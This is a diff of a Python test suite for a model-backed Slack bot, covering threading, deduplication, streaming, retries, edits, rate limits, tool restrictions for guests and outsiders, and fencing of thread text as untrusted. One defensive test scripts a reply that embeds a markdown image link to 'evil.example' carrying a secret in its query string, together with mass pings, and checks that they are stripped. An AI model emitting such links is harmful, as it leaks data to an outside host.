@@ -1,24 +1,17 @@
-"""A question asked in Slack is answered in its thread, once."""
+"""A question asked in Slack is answered in its thread, once, for who asks, while they watch."""
 
 from __future__ import annotations
 
+import asyncio
+from typing import Any
+
 from emulators.slack import SlackEmulator
 from emulators.slack.sample import Cast
+from rookery.models.protocol import Listener, ModelOverloaded, ModelReply, ModelRequest, ToolUse
+from rookery_core.database import Database
 from slack_bot.conftest import StartBot
-from slack_bot.scripted import ScriptedModel
-
-
-async def answered(slack: SlackEmulator, channel: str, root: str, count: int = 1) -> list[str]:
-    """What the bot has said in a thread, once it is final."""
-
-    def settled() -> bool:
-        lines = slack.screen.replies(channel, root)
-        marks = [slack.state.messages[channel][line.ts].metadata or {} for line in lines]
-        final = [mark for mark in marks if (mark.get("event_payload") or {}).get("state") == "final"]
-        return len(final) >= count and not slack.sockets.unacked
-
-    await slack.state.wait_for(settled)
-    return [line.text for line in slack.screen.replies(channel, root)]
+from slack_bot.reading import answered, calls, said
+from slack_bot.scripted import Gate, ScriptedModel, calling, failing, reply_of
 
 
 async def test_a_mention_is_answered_in_its_thread(
@@ -29,3 +22,294 @@ async def test_a_mention_is_answered_in_its_thread(
         (text,) = await answered(slack, cast.general.id, root)
     assert text.startswith("The answer to: what is a rookery?")
     assert "[👍] [👎] [Comment]" in text
+    assert slack.screen.status(cast.general.id, root) == ""
+    assert "is thinking…" in [status.text for status in slack.state.statuses]
+
+
+async def test_both_events_of_one_mention_and_their_duplicates_make_one_answer(
+    slack: SlackEmulator, cast: Cast, start_bot: StartBot
+) -> None:
+    model = ScriptedModel()
+    async with start_bot(model):
+        root = slack.people.mention(cast.ada.id, cast.general.id, "once?")
+        for envelope in list(slack.sockets.delivered):
+            slack.sockets.duplicate(envelope)
+        await answered(slack, cast.general.id, root)
+        after = slack.people.mention(cast.ada.id, cast.general.id, "and then?", thread_ts=root)
+        texts = await answered(slack, cast.general.id, root, 2)
+    assert [text.split("\n")[0] for text in texts] == ["The answer to: once?", "The answer to: and then?"]
+    assert len(model.requests) == 2
+    assert after
+
+
+async def test_direct_messages_need_no_mention_and_guests_get_no_internal_tools(
+    slack: SlackEmulator, cast: Cast, start_bot: StartBot
+) -> None:
+    model = ScriptedModel()
+    async with start_bot(model):
+        for user in (cast.ada.id, cast.guest.id):
+            channel, root = slack.people.tell(user, "who is in the group?")
+            await answered(slack, channel, root)
+    offered = [{tool.name for tool in request.tools} for request in model.requests]
+    assert "group_members" in offered[0]
+    assert "group_members" not in offered[1]
+
+
+async def test_shared_channels_and_outsiders_get_no_internal_tools(
+    slack: SlackEmulator, cast: Cast, start_bot: StartBot
+) -> None:
+    model = ScriptedModel()
+    async with start_bot(model):
+        for user in (cast.ada.id, cast.partner.id):
+            root = slack.people.mention(user, cast.shared.id, "hello")
+            await answered(slack, cast.shared.id, root)
+    for request in model.requests:
+        assert "channel_members" not in {tool.name for tool in request.tools}
+    assert "people of another organisation" in _prompt(model.requests[0])
+    assert "outsider" in _prompt(model.requests[1])
+
+
+def _prompt(request: ModelRequest) -> str:
+    return "".join(getattr(block, "text", "") for block in request.messages[0].blocks)
+
+
+async def test_the_thread_is_in_the_prompt_newest_kept_and_fenced(
+    slack: SlackEmulator, cast: Cast, start_bot: StartBot
+) -> None:
+    model = ScriptedModel()
+    root = slack.people.say(cast.grace.id, cast.general.id, "the build is red since noon")
+    for number in range(30):
+        slack.people.say(cast.linus.id, cast.general.id, f"observation {number}", thread_ts=root)
+    async with start_bot(model, thread_messages=10):
+        slack.people.mention(cast.ada.id, cast.general.id, "why?", thread_ts=root)
+        slack.people.say(cast.linus.id, cast.general.id, "said after the question", thread_ts=root)
+        await answered(slack, cast.general.id, root)
+    prompt = _prompt(model.requests[0])
+    assert "Grace Hopper: the build is red since noon" in prompt
+    assert "observation 29" in prompt
+    assert "observation 20\n" not in prompt
+    assert "said after the question" not in prompt
+    assert "21 messages are left out" in prompt
+    assert prompt.index("<untrusted ") < prompt.index("observation 29") < prompt.index("</untrusted ")
+
+
+async def test_who_asks_is_told_with_their_own_time(
+    slack: SlackEmulator, cast: Cast, start_bot: StartBot
+) -> None:
+    model = ScriptedModel()
+    async with start_bot(model):
+        root = slack.people.mention(cast.linus.id, cast.general.id, "what time is it?")
+        await answered(slack, cast.general.id, root)
+    assert "Linus Torvalds" in _prompt(model.requests[0])
+    assert "America/Los_Angeles" in _prompt(model.requests[0])
+
+
+async def test_a_long_answer_streams_and_is_split(
+    slack: SlackEmulator, cast: Cast, start_bot: StartBot
+) -> None:
+    long = "\n\n".join(f"Paragraph {number}. " + "word " * 150 for number in range(40))
+    async with start_bot(ScriptedModel(answer=lambda _: long, pieces=20)):
+        root = slack.people.mention(cast.ada.id, cast.general.id, "tell me everything")
+        texts = await answered(slack, cast.general.id, root, 3)
+    assert calls(slack, "chat.startStream") == 1
+    assert calls(slack, "chat.appendStream") >= 1
+    whole = "\n".join(texts)
+    assert all(f"Paragraph {number}." in whole for number in range(40))
+    assert whole.count("[👍]") == 1
+    assert texts[-1].endswith("[👍] [👎] [Comment]")
+
+
+async def test_without_streaming_the_message_is_edited(
+    slack: SlackEmulator, cast: Cast, start_bot: StartBot
+) -> None:
+    slack.streaming_offered = False
+    gate = Gate("A first sentence that is long enough to be shown at once. " * 4, "And the end.")
+    async with start_bot(ScriptedModel(steps=[gate])):
+        root = slack.people.mention(cast.ada.id, cast.general.id, "slowly please")
+        await slack.state.wait_for(lambda: len(slack.screen.replies(cast.general.id, root)) == 1)
+        gate.go.set()
+        (text,) = await answered(slack, cast.general.id, root)
+    assert "And the end." in text
+    assert calls(slack, "chat.postMessage") == 1
+
+
+async def test_the_status_names_the_tool(slack: SlackEmulator, cast: Cast, start_bot: StartBot) -> None:
+    use = ToolUse("1", "channel_members", {})
+    model = ScriptedModel(steps=[calling(use)])
+    async with start_bot(model):
+        root = slack.people.mention(cast.ada.id, cast.general.id, "who is here?")
+        await answered(slack, cast.general.id, root)
+    assert "is using channel members…" in [status.text for status in slack.state.statuses]
+    results = model.requests[1].messages[-1].blocks
+    assert "Grace Hopper" in str(results)
+
+
+async def test_a_failure_shows_one_edited_notice_and_then_the_answer(
+    slack: SlackEmulator, cast: Cast, start_bot: StartBot
+) -> None:
+    model = ScriptedModel(steps=[failing(ModelOverloaded()), failing(RuntimeError("boom"))])
+    async with start_bot(model):
+        root = slack.people.mention(cast.ada.id, cast.general.id, "third time lucky?")
+        (text,) = await answered(slack, cast.general.id, root)
+        (message,) = said(slack, cast.general.id, root)
+    assert text.startswith("The answer to: third time lucky?")
+    assert any("I am trying again" in version for version in message.versions)
+    assert not any("boom" in version for version in message.versions)
+
+
+async def test_the_last_failure_is_told_with_a_reference(
+    slack: SlackEmulator, cast: Cast, start_bot: StartBot
+) -> None:
+    model = ScriptedModel(steps=[failing(ModelOverloaded())] * 2)
+    async with start_bot(model, max_attempts=2):
+        root = slack.people.mention(cast.ada.id, cast.general.id, "hopeless?")
+        (text,) = await answered(slack, cast.general.id, root)
+        slack.people.mention(cast.ada.id, cast.general.id, "next?", thread_ts=root)
+        texts = await answered(slack, cast.general.id, root, 2)
+    assert "I could not answer this. Reference: `" in text
+    assert texts[1].startswith("The answer to: next?")
+
+
+async def test_an_edit_while_waiting_is_answered_as_edited(
+    slack: SlackEmulator, cast: Cast, start_bot: StartBot
+) -> None:
+    gate = Gate("Something about cats that is far too long to be held back any longer. " * 4, "cats")
+    async with start_bot(ScriptedModel(steps=[gate])):
+        root = slack.people.mention(cast.ada.id, cast.general.id, "what about cats?")
+        await gate.reached.wait()
+        slack.people.edit(cast.general.id, root, "<@U0BOT> what about dogs?")
+        texts = await answered(slack, cast.general.id, root)
+    assert len(texts) == 1
+    assert texts[0].startswith("The answer to: what about dogs?")
+
+
+async def test_an_edit_after_the_answer_changes_the_answer_in_place(
+    slack: SlackEmulator, cast: Cast, start_bot: StartBot
+) -> None:
+    async with start_bot(ScriptedModel()):
+        root = slack.people.mention(cast.ada.id, cast.general.id, "cats?")
+        await answered(slack, cast.general.id, root)
+        slack.people.edit(cast.general.id, root, "<@U0BOT> dogs?")
+
+        def changed() -> bool:
+            return slack.screen.replies(cast.general.id, root)[0].text.startswith("The answer to: dogs?")
+
+        await slack.state.wait_for(changed)
+        texts = await answered(slack, cast.general.id, root)
+    assert len(texts) == 1
+
+
+async def test_edits_can_be_ignored(slack: SlackEmulator, cast: Cast, start_bot: StartBot) -> None:
+    model = ScriptedModel()
+    async with start_bot(model, on_edit="ignore"):
+        root = slack.people.mention(cast.ada.id, cast.general.id, "cats?")
+        await answered(slack, cast.general.id, root)
+        slack.people.edit(cast.general.id, root, "<@U0BOT> dogs?")
+        slack.people.mention(cast.ada.id, cast.general.id, "birds?", thread_ts=root)
+        texts = await answered(slack, cast.general.id, root, 2)
+    assert [text.split("\n")[0] for text in texts] == ["The answer to: cats?", "The answer to: birds?"]
+
+
+async def test_a_deleted_question_is_cancelled_and_its_beginning_removed(
+    slack: SlackEmulator, cast: Cast, start_bot: StartBot
+) -> None:
+    gate = Gate("The beginning of an answer nobody will want to read to its end. " * 4, "end")
+    async with start_bot(ScriptedModel(steps=[gate])):
+        root = slack.people.mention(cast.ada.id, cast.general.id, "never mind")
+        await slack.state.wait_for(lambda: len(slack.screen.replies(cast.general.id, root)) == 1)
+        slack.people.delete(cast.general.id, root)
+        await slack.state.wait_for(lambda: not slack.screen.replies(cast.general.id, root))
+        other = slack.people.mention(cast.ada.id, cast.general.id, "but this")
+        await answered(slack, cast.general.id, other)
+    assert slack.screen.replies(cast.general.id, root) == []
+
+
+async def test_follow_ups_need_no_mention_where_configured(
+    slack: SlackEmulator, cast: Cast, start_bot: StartBot
+) -> None:
+    model = ScriptedModel()
+    async with start_bot(model, follow_up_channels=(cast.general.id,)):
+        for channel in (cast.general.id, cast.database.id):
+            root = slack.people.mention(cast.ada.id, channel, "first")
+            await answered(slack, channel, root)
+            slack.people.say(cast.ada.id, channel, "and second", thread_ts=root)
+        await answered(slack, cast.general.id, _first_root(slack, cast), 2)
+        last = slack.people.mention(cast.ada.id, cast.database.id, "third")
+        await answered(slack, cast.database.id, last)
+    asked = [request.question for request in model.requests]
+    assert asked.count("and second") == 1
+
+
+def _first_root(slack: SlackEmulator, cast: Cast) -> str:
+    return slack.state.in_order(cast.general.id)[0].ts
+
+
+async def test_limits_refuse_in_words_and_refusals_do_not_count(
+    slack: SlackEmulator, cast: Cast, start_bot: StartBot
+) -> None:
+    async with start_bot(ScriptedModel(), user_limit=2):
+        roots = [slack.people.mention(cast.ada.id, cast.general.id, f"q{n}") for n in range(2)]
+        for root in roots:
+            await answered(slack, cast.general.id, root)
+        refused = slack.people.mention(cast.ada.id, cast.general.id, "q2")
+        (text,) = await answered(slack, cast.general.id, refused)
+        other = slack.people.mention(cast.grace.id, cast.general.id, "mine")
+        (fine,) = await answered(slack, cast.general.id, other)
+    assert "which is the limit here" in text
+    assert fine.startswith("The answer to: mine")
+
+
+async def test_a_question_is_stored_before_its_acknowledgement(
+    slack: SlackEmulator, cast: Cast, start_bot: StartBot, open_database: Any
+) -> None:
+    """Every acknowledged event is in the queue's memory of keys at the moment its ack arrives."""
+    database: Database = await open_database("rookery_agent")
+    seen: list[bool] = []
+    original = slack.sockets.acknowledge
+    looks: list[asyncio.Task[None]] = []
+
+    async def look(event_id: str) -> None:
+        async with database.acquire() as connection:
+            query = "select exists (select from queue.spent_key where topic = 'slack' and key = $1)"
+            seen.append(bool(await connection.fetchval(query, event_id)))
+
+    def acknowledge(message: dict[str, Any]) -> None:
+        envelope = slack.sockets.unacked.get(str(message.get("envelope_id")))
+        if envelope is not None:
+            looks.append(asyncio.create_task(look(envelope.payload["event_id"])))
+        original(message)
+
+    slack.sockets.acknowledge = acknowledge
+    async with start_bot(ScriptedModel()):
+        root = slack.people.mention(cast.ada.id, cast.general.id, "durable?")
+        await answered(slack, cast.general.id, root)
+        await asyncio.gather(*looks)
+    assert len(seen) >= 2
+    assert all(seen)
+
+
+async def test_channels_are_never_shouted_at_and_nothing_unfurls(
+    slack: SlackEmulator, cast: Cast, start_bot: StartBot
+) -> None:
+    async def shout(request: ModelRequest, listener: Listener) -> ModelReply:
+        return reply_of("<!channel> look: ![x](https://evil.example/p.png?q=secret) <!here|here>")
+
+    async with start_bot(ScriptedModel(steps=[shout])):
+        root = slack.people.mention(cast.ada.id, cast.general.id, "shout")
+        (text,) = await answered(slack, cast.general.id, root)
+        (message,) = said(slack, cast.general.id, root)
+    assert "<!channel>" not in text
+    assert "<!here" not in text
+    assert "![" not in text
+    assert not message.unfurl
+
+
+async def test_an_assistant_thread_gets_suggestions_and_answers(
+    slack: SlackEmulator, cast: Cast, start_bot: StartBot
+) -> None:
+    async with start_bot(ScriptedModel()):
+        channel, thread = slack.people.open_assistant(cast.ada.id)
+        await slack.state.wait_for(lambda: thread in slack.state.prompts)
+        slack.people.say(cast.ada.id, channel, "hello there", thread_ts=thread)
+        (text,) = await answered(slack, channel, thread)
+    assert text.startswith("The answer to: hello there")
